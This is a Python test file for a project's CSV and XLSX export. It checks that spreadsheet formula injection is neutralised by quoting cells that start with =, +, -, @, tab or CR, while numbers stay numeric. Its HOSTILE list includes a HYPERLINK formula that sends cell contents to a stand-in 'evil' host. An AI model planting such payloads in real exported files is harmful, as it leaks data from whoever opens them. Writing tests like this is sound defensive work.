"""Issue 11 item 13: CSV and XLSX the project writes could carry live formulas
(a region or query value "=HYPERLINK(…)" ran when the file was opened). Cells
starting with =, +, -, @, tab or CR are written as text (OWASP), numbers stay
numbers, and XLSX text cells are never formulas."""
import csv
import io
import subprocess
import sys

import openpyxl

from issue11_helpers import ROOT, env  # noqa: F401 (fixtures)
from kg.present.tables import to_xlsx

HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def _literal(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'


def test_query_csv_neutralises_text_and_keeps_numbers(env):
    values = " ".join(f"({_literal(v)} {i - 3})" for i, v in enumerate(HOSTILE))
    out = subprocess.run([sys.executable, "-m", "kg.cli", "query", "--format", "csv", "-e",
                          f"SELECT ?text ?n WHERE {{ VALUES (?text ?n) {{ {values} }} }}"],
                         cwd=ROOT, env=env, capture_output=True, timeout=120)      # bytes: keep the CR
    assert out.returncode == 0, out.stderr
    rows = list(csv.reader(io.StringIO(out.stdout.decode("utf-8"), newline="")))[1:]
    assert [r[0] for r in rows] == ["'" + v for v in HOSTILE]
    assert [r[1] for r in rows] == [str(i - 3) for i in range(len(HOSTILE))]     # -3 stays a number


def test_xlsx_text_is_never_a_formula(tmp_path):
    data = to_xlsx(["name", "net"], [[v, -i] for i, v in enumerate(HOSTILE)])
    path = tmp_path / "batch.xlsx"
    path.write_bytes(data)
    ws = openpyxl.load_workbook(path).active
    cells = list(ws.iter_rows(min_row=2))
    assert [c[0].value for c in cells] == HOSTILE and {c[0].data_type for c in cells} == {"s"}
    assert [c[1].value for c in cells] == [-i for i in range(len(HOSTILE))]
    assert {c[1].data_type for c in cells} == {"n"}
